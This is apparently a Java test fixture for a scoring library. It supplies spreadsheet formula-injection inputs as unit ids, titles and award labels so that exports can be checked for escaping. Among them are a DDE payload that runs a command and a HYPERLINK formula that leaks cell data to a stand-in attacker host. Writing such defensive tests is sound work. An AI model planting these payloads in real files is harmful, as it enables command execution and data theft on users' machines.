package io.github.kaoping.scoring.io;

import io.github.kaoping.scoring.Assessment;
import io.github.kaoping.scoring.Calculator;
import io.github.kaoping.scoring.Scheme;
import io.github.kaoping.scoring.ScoreCard;
import io.github.kaoping.scoring.UnitFacts;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;

/**
 * Unit ids, a group title, a node title and an award label that a spreadsheet would run as
 * formulas, in a scheme without a roster, so that any id is allowed: what an attacker who can name
 * a unit writes.
 */
final class HostileIds {

  private HostileIds() {}

  /** Each id, with the points its unit is given (all different, so the order is fixed). */
  static final List<String> IDS =
      List.of(
          "=cmd|' /C calc'!A0",
          "@SUM(A1:A2)",
          "+1",
          "-2+3",
          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"查看\")",
          "\t=1+1",
          "'=1+1",
          "-5",
          "plain");

  static Scheme scheme() {
    try {
      return Examples.parse(
          """
          id: hostile
          title: 恶意输入
          groups:
            - {id: g, title: "=组"}
          sections:
            - {id: s1, title: "=SUM(1,2)", max: 100, rule: {assessed: {direction: earn}}}
          max: 100
          outcomes:
            - ranking:
                id: awards
                title: 评奖
                disqualified: keepPosition
                cutTies: allWorse
                awards:
                  - {label: "=1+1", from: 1, to: 1, end: top}
          """,
          FileFormat.YAML);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static List<UnitFacts> facts() {
    List<UnitFacts> units = new ArrayList<>();
    for (int i = 0; i < IDS.size(); i++) {
      units.add(
          UnitFacts.of(IDS.get(i), "g")
              .addFacts(Assessment.of("s1", Integer.toString(90 - i)))
              .build());
    }
    return units;
  }

  static Results results() {
    Calculator calc = Calculator.of(scheme());
    List<ScoreCard> cards = facts().stream().map(calc::score).toList();
    return Results.of(calc.scheme(), cards);
  }
}
